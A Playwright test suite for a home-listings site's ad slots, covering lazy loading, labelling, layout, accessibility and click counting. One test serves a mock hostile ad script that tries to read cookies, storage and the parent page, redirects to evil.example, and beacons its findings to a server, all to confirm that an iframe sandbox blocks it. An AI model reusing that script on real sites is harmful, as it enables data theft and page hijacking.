import { mkdtemp, rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { freePort } from '#test/cluster/programs.ts'
import { browserAgent } from '../world/ad.ts'
import { runSite } from '../world/site.ts'
import { expect, test } from './fixtures.ts'
import { copySampleData } from './sample-data.ts'
import { startApplication } from './start-application.ts'

// Browsers without a window name themselves, and count as robots.
test.use({ userAgent: browserAgent })

const slot = (page: Page, name: string) => page.locator(`[data-slot="${name}"]`)

/** Waits for two frames, in which the page notices what came near the window. */
const drawn = (page: Page) =>
  page.evaluate(() => new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve))))

/** Scrolls as a reader does, until the end of the page or of patience. */
async function readToTheEnd(page: Page) {
  const height = await page.evaluate(() => document.body.scrollHeight)
  for (let y = 0; y < height; y += 400) {
    await page.mouse.wheel(0, 400)
    await drawn(page)
  }
}

/** Adds up layout shifts of the page. */
const noteShifts = (page: Page) =>
  page.addInitScript(() => {
    const shifts = { total: 0 }
    Object.assign(window, { shifts })
    new PerformanceObserver(list => {
      for (const entry of list.getEntries()) shifts.total += 'value' in entry ? Number(entry.value) : 0
    }).observe({ type: 'layout-shift', buffered: true })
  })
const shiftsOf = (page: Page) =>
  page.evaluate(() => (window as unknown as { shifts: { total: number } }).shifts.total)

/** Notes the calls for ads. */
function noteCalls(page: Page): string[] {
  const calls: string[] = []
  page.on('request', request => {
    const { pathname, searchParams } = new URL(request.url())
    if (/\/(ppc-ads|ad-graphics|ad-banners)\.json$/.test(pathname))
      calls.push(
        `${pathname.split('/').at(-1)} ${searchParams.get('position') ?? searchParams.get('slot') ?? ''}`.trim(),
      )
  })
  return calls
}

const noAds = { json: { payload: [], meta: { position: 0, countyCode: null } } }

test('ads come after the page, say who pays, and move nothing; those in sight come without a gesture', async ({
  page,
  request,
  violations,
}) => {
  await noteShifts(page)
  const calls = noteCalls(page)
  for (const [width, language, prefix, mark] of [
    [360, 'English', '', 'Ad'],
    [1280, 'Spanish', '/es', 'Publicidad'],
  ] as const)
    await test.step(`at ${width} px in ${language}`, async () => {
      const html = await (await request.get(`${prefix}/homes/fl`)).text()
      expect(html).toContain('data-slot="results-end"')
      expect(html).not.toMatch(/\(sample\)|ad-clicks/)
      await page.setViewportSize({ width, height: 740 })
      calls.length = 0
      await page.goto(`${prefix}/homes/fl`, { waitUntil: 'networkidle' })
      expect(calls).toEqual([])
      await startApplication(page)
      await readToTheEnd(page)
      const ads = page.locator('[data-slot] aside > ul > li')
      await expect(ads).toHaveCount(width < 768 ? 3 : 4)
      for (const ad of await ads.all()) await expect(ad).toContainText(`${mark} · `)
      const payers = await ads.locator('p').allTextContents()
      // One advertiser gets one place of a page.
      expect(new Set(payers).size).toBe(payers.length)
      // Never before the first home.
      const first = await page.locator('[data-found]').first().boundingBox()
      const highest = await slot(page, 'results-card').boundingBox()
      expect(highest!.y).toBeGreaterThan(first!.y + first!.height)
      expect(await shiftsOf(page)).toBeLessThan(0.0005)
      await page.locator('[data-slot] summary').last().click()
      expect(await violations()).toEqual([])
      // Evergreen and clay are of the site itself.
      for (const ad of await ads.all())
        expect(await ad.evaluate(element => getComputedStyle(element).borderTopColor)).not.toMatch(
          /31, 77, 58|168, 67, 26/,
        )
    })
  await test.step('ads in sight come without a gesture', async () => {
    await page.setViewportSize({ width: 1280, height: 3_000 })
    await page.goto('/homes/fl')
    await expect(slot(page, 'results-card').getByText('paid by')).toBeVisible()
  })
})

test('ads load when their slot comes near the window, and anew into the same slot with another search (L194)', async ({
  page,
}) => {
  await page.setViewportSize({ width: 1280, height: 600 })
  const calls = noteCalls(page)
  await page.clock.install()
  await page.goto('/homes/fl')
  await startApplication(page)
  await page.clock.runFor(500)
  await drawn(page)
  expect(calls).toEqual([])
  await slot(page, 'results-card').scrollIntoViewIfNeeded()
  await expect(slot(page, 'results-card').getByText('paid by')).toBeVisible()
  expect(calls).toEqual(['ppc-ads.json 0'])
  await slot(page, 'results-end').scrollIntoViewIfNeeded()
  await expect(slot(page, 'results-end').getByText('paid by').first()).toBeVisible()
  expect(calls).toEqual(['ppc-ads.json 0', 'ppc-ads.json 1'])
  const end = slot(page, 'results-end')
  await end.evaluate(element => Object.assign(element, { isSame: true }))
  const asked = page.waitForRequest(/ppc-ads\.json.*position=1/)
  await page.getByRole('link', { name: 'Next', exact: true }).click()
  await page.waitForURL(/page=2/)
  await readToTheEnd(page)
  await asked
  await expect.poll(() => calls.length).toBeGreaterThan(2)
  expect(await end.evaluate(element => 'isSame' in element)).toBe(true)
})

test('ads are shown only in containers wider than 280 px, and a resize counts after 400 ms (L195)', async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 740 })
  const calls = noteCalls(page)
  await page.clock.install()
  await page.goto('/resources/how-ads-work')
  // Until observers know of it, which is not before the next frame: the pause begins then.
  const resize = (width: number) =>
    slot(page, 'guide-end').evaluate(
      (element, max) =>
        new Promise<void>(resolve => {
          element.style.maxWidth = `${max}px`
          const observer = new ResizeObserver(() => {
            observer.disconnect()
            resolve()
          })
          observer.observe(element)
        }),
      width,
    )
  await resize(280)
  await startApplication(page)
  await slot(page, 'guide-end').scrollIntoViewIfNeeded()
  await drawn(page)
  await page.clock.pauseAt(Date.now() + 3_600_000)
  await page.clock.runFor(1_000)
  expect(calls).toEqual([])
  await resize(281)
  await page.clock.runFor(399)
  expect(calls).toEqual([])
  await expect
    .poll(async () => {
      await page.clock.runFor(1)
      return calls.length
    })
    .toBe(1)
  await page.clock.resume()
  await expect(slot(page, 'guide-end').getByText('paid by').first()).toBeVisible()
})

test('items are a quarter or a third, a half or all of the width, and all on a phone (L196)', async ({
  page,
}) => {
  const one = {
    advertiser: 'Level Ground Moving',
    language: 'en',
    area: 'nation',
    title: 'Move your home',
    text: 'Licensed crews.',
    displayLink: 'level-ground.example',
    noFollow: true,
    relationships: { websiteLink: null },
  }
  let count = 4
  await page.route(/ppc-ads\.json/, route =>
    route.fulfill({
      json: {
        payload: Array.from({ length: count }, (_, at) => ({
          ...one,
          key: at + 1,
          position: at,
          token: `t${at}.x`,
        })),
        meta: { position: 0, countyCode: null },
      },
    }),
  )
  const row = slot(page, 'guide-end').locator('ul').first()
  const share = () =>
    row.evaluate(list => {
      const gap = Number.parseFloat(getComputedStyle(list).columnGap) || 0
      const [first] = list.children
      return Math.round(
        ((first!.getBoundingClientRect().width + gap) / (list.getBoundingClientRect().width + gap)) * 100,
      )
    })
  for (const [ads, shares] of [
    [4, [25, 50, 100]],
    [3, [33, 100, 100]],
  ] as const) {
    count = ads
    await page.setViewportSize({ width: 1280, height: 740 })
    await page.goto('/resources/how-ads-work')
    await startApplication(page)
    await slot(page, 'guide-end').scrollIntoViewIfNeeded()
    await expect(row.locator('> li')).toHaveCount(ads)
    for (const [at, width] of [1280, 800, 360].entries()) {
      await page.setViewportSize({ width, height: 740 })
      await slot(page, 'guide-end').scrollIntoViewIfNeeded()
      await expect.poll(share, `${width} px, ${ads} ads`).toBe(shares[at])
      await expect(row.locator('> li')).toHaveCount(ads)
    }
  }
})

test('without ads a slot that is not seen yet closes, and the page stands (L193)', async ({ page }) => {
  await noteShifts(page)
  await page.route(/ppc-ads\.json|ad-graphics\.json|ad-banners\.json/, route =>
    route.request().url().includes('ppc') ? route.abort() : route.fulfill(noAds),
  )
  await page.goto('/parks/1')
  await startApplication(page)
  // Near enough to load, and not in the window yet, however slow the machine is.
  await slot(page, 'park-end').evaluate(element =>
    scrollTo(0, element.getBoundingClientRect().top + scrollY - innerHeight - 300),
  )
  await expect(slot(page, 'park-end')).toHaveAttribute('data-closed', '')
  await readToTheEnd(page)
  await expect(slot(page, 'park-end').locator('li')).toHaveCount(0)
  expect(await slot(page, 'park-end').evaluate(element => element.clientHeight)).toBe(0)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(await shiftsOf(page)).toBeLessThan(0.0005)
})

test('an ad is reached by one key, says why it is here, can be reported, and leads to its own link through its counter page', async ({
  page,
  context,
}) => {
  await context.route('https://example.com/**', route =>
    route.fulfill({ contentType: 'text/html', body: '<h1>There</h1>' }),
  )
  await page.goto('/homes/fl')
  await startApplication(page)
  const end = slot(page, 'results-end')
  const seen = page.waitForResponse(/ad-views\.json/)
  await end.scrollIntoViewIfNeeded()

  await test.step('the keyboard passes the ads in one step, and a screen reader hears where they are', async () => {
    const region = end.getByRole('complementary', { name: 'Ads' })
    await expect(region.getByRole('listitem')).toHaveCount(3)
    await expect(region).toMatchAriaSnapshot(`
      - complementary "Ads (2)":
        - link "Skip the ads":
          - /url: "#after-results-end"
        - list:
          - listitem:
            - paragraph:
              - strong: Ad
              - text: /paid by .+/
            - link /.+example/:
              - /url: /ad-clicks/
          - listitem:
            - paragraph:
              - strong: Ad
              - text: /paid by .+/
            - link /.+example/:
              - /url: /ad-clicks/
          - listitem:
            - paragraph:
              - strong: Ad
              - text: /paid by .+/
            - link /.+example/:
              - /url: /ad-clicks/
        - group: Why these ads?
    `)
    await region.getByRole('link', { name: 'Skip the ads' }).focus()
    await page.keyboard.press('Enter')
    await page.keyboard.press('Tab')
    expect(await region.evaluate(element => element.contains(document.activeElement))).toBe(false)
  })

  await test.step('why an ad is here tells the place and the page, and it can be reported', async () => {
    await end.getByText('Why these ads?').click()
    await expect(end.getByText('based on the place you searched')).toBeVisible()
    await expect(end.getByText('We do not use anything about you')).toBeVisible()
    await expect(end.getByText(/advertises in (all states|this state)\./).first()).toBeVisible()
    await end
      .getByRole('link', { name: /^Report the ad from/ })
      .first()
      .click()
    await page.waitForURL(/\/report\/ads\/\d+$/)
    await expect(page.getByRole('heading', { name: 'Report an ad' })).toBeVisible()
    await page.goBack()
  })

  await test.step('a press on an ad asks its counter page and leads to the ad’s own link; a new tab does the same', async () => {
    await end.scrollIntoViewIfNeeded()
    const ad = end.getByRole('link').filter({ hasText: '.example' }).first()
    await expect(ad).toHaveAttribute('href', /^\/api\/v1\/ad-clicks\/.+\.json$/)
    await expect(ad).toHaveAttribute('rel', 'sponsored noopener nofollow')
    expect((await seen).status()).toBe(200)
    const opened = context.waitForEvent('page')
    await ad.click({ modifiers: ['ControlOrMeta'] })
    await (await opened).close()
    const plain = await context.request.get((await ad.getAttribute('href')) ?? '', { maxRedirects: 0 })
    expect([plain.status(), plain.headers().location]).toEqual([
      303,
      expect.stringMatching(/^https:\/\/example\.com\//),
    ])
    const asked = page.waitForRequest(
      request => request.method() === 'POST' && request.url().includes('/ad-clicks/'),
    )
    await ad.click()
    const body = (await asked).postDataJSON()
    expect(body).toEqual({ key: expect.any(Number), county: null, position: expect.any(Number) })
    await page.waitForURL('https://example.com/**')
  })

  await test.step('where the counter page fails, the link leads there all the same', async () => {
    await page.goto('/homes/fl')
    await startApplication(page)
    await end.scrollIntoViewIfNeeded()
    await page.route(/ad-clicks/, route =>
      route.request().method() === 'POST' ? route.abort() : route.continue(),
    )
    const answer = page.waitForResponse(
      response => response.request().method() === 'GET' && response.url().includes('/ad-clicks/'),
    )
    await end.getByRole('link').filter({ hasText: '.example' }).first().click()
    expect((await answer).status()).toBe(303)
  })
})

test('pages on which people write have no ads, and neither has a page without script', async ({
  request,
  browser,
  baseURL,
}) => {
  for (const path of [
    '/login',
    '/sign-up',
    '/contact-us',
    '/homes/start',
    '/delete-my-data',
    '/mobile-home-book-value',
  ]) {
    const answer = await request.get(path)
    expect(answer.status(), path).toBe(200)
    expect(await answer.text(), path).not.toContain('data-slot')
  }
  const context = await browser.newContext({ baseURL: baseURL!, javaScriptEnabled: false })
  const still = await context.newPage()
  await still.goto('/homes/fl')
  await expect(slot(still, 'results-end')).toBeHidden()
  await context.close()
})

test('the script of a network runs in a closed frame, and not for people who refuse (L197)', async ({
  browser,
}) => {
  // What a hostile script may try; it reports what it reached to its own server.
  const tried: string[] = []
  const network = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://network.example')
    response.setHeader('access-control-allow-origin', '*')
    if (pathname !== '/script.js') {
      tried.push(...searchParams.getAll('reached'))
      response.end()
      return
    }
    response.setHeader('content-type', 'text/javascript')
    response.end(
      `
      const reached = ['slot ' + window.adOptions.slot + ' ' + window.adOptions.layout];
      const attempt = (name, work) => { try { if (work()) reached.push(name) } catch {} };
      attempt('page', () => parent.document.title);
      attempt('cookies', () => document.cookie !== undefined);
      attempt('storage', () => localStorage.length >= 0);
      attempt('navigation', () => { top.location.href = 'https://evil.example/'; return false });
      attempt('size', () => { frameElement.style.height = '900px'; return true });
      parent.postMessage({ height: 900, eval: 'document.title = "hacked"' }, '*');
      attempt('nothing', () => { document.body.style.height = '5000px'; return false });
      new Image().src = 'http://127.0.0.1:0/told?' + reached.map(one => 'reached=' + encodeURIComponent(one)).join('&');
    `.replace('127.0.0.1:0', `127.0.0.1:${(network.address() as AddressInfo).port}`),
    )
  })
  await new Promise<void>(resolve => network.listen(0, '127.0.0.1', resolve))
  const script = `http://127.0.0.1:${(network.address() as AddressInfo).port}/script.js`
  const dataDir = await mkdtemp(join(tmpdir(), 'havenrow-ads-'))
  await copySampleData(dataDir)
  const port = String(await freePort())
  const site = await runSite({
    DATA_DIR: dataDir,
    PORT: port,
    SITE_URL: `http://127.0.0.1:${port}`,
    AD_NETWORK_URL: script,
    AD_SLOTS: 'results-end',
  })
  try {
    const context = await browser.newContext({
      userAgent: browserAgent,
      viewport: { width: 1280, height: 800 },
    })
    const page = await context.newPage()
    await page.route(/ppc-ads\.json/, route => route.fulfill(noAds))
    await noteShifts(page)
    await page.goto(`${site.address}/homes/fl`)
    const title = await page.title()
    await startApplication(page)
    await readToTheEnd(page)
    await expect(slot(page, 'results-card')).toHaveCount(0)
    const frame = slot(page, 'results-end').locator('iframe')
    await expect(frame).toHaveAttribute(
      'sandbox',
      'allow-scripts allow-popups allow-popups-to-escape-sandbox',
    )
    await expect.poll(() => tried).toEqual(['slot results-end in-article'])
    expect(page.url()).toBe(`${site.address}/homes/fl`)
    expect(await page.title()).toBe(title)
    expect((await frame.boundingBox())!.height).toBeLessThan(200)
    expect(await shiftsOf(page)).toBeLessThan(0.0005)
    // The site promises nothing for what it does not choose.
    await expect(slot(page, 'results-end').locator('details')).toContainText('An ad network chose this ad.')
    await expect(slot(page, 'results-end').locator('details')).not.toContainText('anything about you')
    await context.close()

    const refusing = await browser.newContext({ userAgent: browserAgent })
    await refusing.addInitScript(() =>
      Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }),
    )
    const other = await refusing.newPage()
    await other.clock.install()
    await other.route(/ppc-ads\.json/, route => route.fulfill(noAds))
    await other.goto(`${site.address}/homes/fl`)
    await startApplication(other)
    await readToTheEnd(other)
    await other.clock.runFor(500)
    await expect(other.locator('iframe')).toHaveCount(0)
    await refusing.close()
  } finally {
    await site.stop()
    network.close()
    await rm(dataDir, { recursive: true, force: true })
  }
})
